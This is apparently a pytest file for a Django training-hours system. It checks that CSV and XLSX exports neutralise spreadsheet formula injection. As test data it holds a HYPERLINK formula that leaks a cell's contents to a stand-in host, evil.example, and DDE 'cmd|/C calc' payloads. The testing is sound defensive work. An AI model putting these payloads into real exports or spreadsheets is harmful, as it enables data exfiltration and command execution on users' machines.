"""Formula injection (DESIGN §7): text a connected system pushes never leaves an export as a live formula.

A title such as `=HYPERLINK("http://evil.example/?x="&B2,"详情")` sent through the batch API comes
out of the exchange export (XLSX and CSV, page and command) and the overview CSV with a leading `'`,
and every XLSX cell is a string cell, so Excel shows text instead of evaluating it. Our own exports
read back to the values that went in, so the round trip to the provincial platform is unchanged.
"""

from __future__ import annotations

import csv
import io
import zipfile
from io import StringIO

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from cehours.integration.exchange import HOURS_COLUMNS, export_hours
from cehours.integration.keys import key_issue, system_save
from cehours.integration.tables import (
    FORMULA_TRIGGERS,
    neutralise,
    read_table,
    unneutralise,
    write_csv,
    write_xlsx,
)
from tests.conftest import PASSWORD
from tests.integration.support import DOCUMENTED_COLUMNS, online, post_batch

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
# One title per trigger character the intake keeps (it strips a leading tab or CR), and one that
# already starts with a quote before a trigger.
HOSTILE_TITLES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=已有引号"]
TITLE = DOCUMENTED_COLUMNS.index("title")


@pytest.fixture
def hr_client(client, make_staff):
    user = make_staff("hr_admin", username="hr_security")
    assert client.login(username=user.username, password=PASSWORD)
    client.user = user
    return client


@pytest.fixture
def pushed_titles(client, make_person):
    """The hostile titles, each on a record a connected system pushed through POST /api/v1/records/batch."""
    system, _ = system_save(code="evil-platform", name="某学习平台", categories=[], industries=[])
    key = key_issue(system=system)
    nurse = make_person(unit="hospital", name="蒋敏")
    records = [
        online(f"f-{i}", nurse.id_number, nurse.name, minutes=45, title=title, completed_on=f"2025-05-{i + 1:02d}")
        for i, title in enumerate(HOSTILE_TITLES)
    ]
    response = post_batch(client, key, records)
    assert response.status_code == 200, response.content
    assert [r["status"] for r in response.json()["results"]] == ["created"] * len(HOSTILE_TITLES)
    return nurse


def _titles_in_order(rows) -> list[str]:
    return sorted(rows, key=lambda r: r[DOCUMENTED_COLUMNS.index("source_record_id")])


def test_a_formula_title_leaves_the_xlsx_export_as_a_quoted_string_cell(hr_client, pushed_titles):
    response = hr_client.get("/exchange/export/", {"year": "2025", "format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]  # not read-only: cells keep their type
    rows = list(sheet.iter_rows(min_row=2))
    cells = [row[TITLE] for row in sorted(rows, key=lambda r: r[0].value)]
    assert [c.value for c in cells] == ["'" + t for t in HOSTILE_TITLES]
    assert {c.data_type for c in cells} == {"s"}
    # No formula, number or error code anywhere: string cells (openpyxl reads an empty one as inlineStr).
    assert {c.data_type for row in rows for c in row} <= {"s", "inlineStr"}
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_formula_title_leaves_the_csv_export_with_a_leading_quote(hr_client, pushed_titles):
    response = hr_client.get("/exchange/export/", {"year": "2025", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == DOCUMENTED_COLUMNS
    assert [r[TITLE] for r in _titles_in_order(rows[1:])] == ["'" + t for t in HOSTILE_TITLES]
    # Hours stay plain numbers that Excel and the provincial platform read as such.
    assert {r[DOCUMENTED_COLUMNS.index("hours")] for r in rows[1:]} == {"1.0"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_command_neutralises_the_same_cells(hr_client, pushed_titles, tmp_path, fmt):
    path = tmp_path / f"hours.{fmt}"
    out = StringIO()
    call_command(
        "export_hours",
        "--as",
        hr_client.user.username,
        "--year",
        "2025",
        "--format",
        fmt,
        "--output",
        str(path),
        stdout=out,
    )
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))[1:]
        assert [r[TITLE] for r in _titles_in_order(rows)] == ["'" + t for t in HOSTILE_TITLES]
    else:
        sheet = load_workbook(path).worksheets[0]
        titles = sorted((row[0].value, row[TITLE]) for row in sheet.iter_rows(min_row=2))
        assert [(c.value, c.data_type) for _, c in titles] == [("'" + t, "s") for t in HOSTILE_TITLES]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_our_own_export_reads_back_to_the_values_that_went_in(hr_client, pushed_titles, fmt):
    response = hr_client.get("/exchange/export/", {"year": "2025", "format": fmt})
    read = [values for _, values in read_table(f"hours.{fmt}", response.content, HOURS_COLUMNS)]
    expected = [
        dict(zip(HOURS_COLUMNS, ["" if v is None else str(v) for v in row], strict=True))
        for row in export_hours(user=hr_client.user, year=2025)
    ]
    assert sorted(read, key=lambda r: r["source_record_id"]) == sorted(expected, key=lambda r: r["source_record_id"])
    assert sorted(r["title"] for r in read) == sorted(HOSTILE_TITLES)


def test_the_overview_csv_neutralises_a_unit_name_that_starts_like_a_formula(client, make_person, make_staff, city):
    unit = city["units"]["hospital"]
    unit.name = '=cmd|" /C calc"!A0'
    unit.save(update_fields=["name"])
    make_person(unit="hospital", name="韩雪")
    staff = make_staff("unit_staff", unit="hospital")
    assert client.login(username=staff.username, password=PASSWORD)
    response = client.get("/overview/", {"year": 2025, "format": "csv"})
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["工作单位"] == "'" + unit.name
    assert row["总学时"] == "0.0" and row["姓名"] == "韩雪"


@pytest.mark.parametrize("value", ["\tcmd", "\r=1+1", "=1+1", "@A1", "+A1", "-A1"])
def test_the_writers_quote_every_trigger_and_the_reader_drops_the_quote(value):
    text = io.StringIO()
    write_csv(["title"], [[value]], text)
    assert list(csv.reader(io.StringIO(text.getvalue().lstrip("\ufeff"))))[1] == ["'" + value]
    binary = io.BytesIO()
    write_xlsx(["title"], [[value]], binary)
    cell = load_workbook(io.BytesIO(binary.getvalue())).worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == ("'" + value.replace("\r", "\n"), "s")  # XML reads a CR as LF
    for name, content in (("t.csv", text.getvalue().encode()), ("t.xlsx", binary.getvalue())):
        assert [v for _, v in read_table(name, content, ["title"])] == [{"title": value.strip()}]


@given(st.text())
def test_the_csv_writer_neutralises_every_text_exactly_as_neutralise_does(text):
    """The writer looks closer only at text whose first character could start a formula; for every
    text that shortcut must give what the full check gives."""
    out = io.StringIO()
    write_csv(["title"], [[text]], out)
    (row,) = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"))))[1:] or [[""]]
    assert row == [neutralise(text)]


@given(st.text())
def test_unneutralise_undoes_neutralise_for_every_text(text):
    assert unneutralise(neutralise(text)) == text


@given(st.text())
def test_a_neutralised_text_never_starts_like_a_formula_unless_it_is_a_plain_number(text):
    out = neutralise(text)
    if out.startswith(FORMULA_TRIGGERS):
        float(out)  # "-3.0", "+5": numbers, which a spreadsheet cannot run


@pytest.mark.parametrize("number", ["-3.0", "+5", "-12", "0.5"])
def test_plain_numbers_pass_unchanged_both_ways(number):
    assert neutralise(number) == number == unneutralise(number)
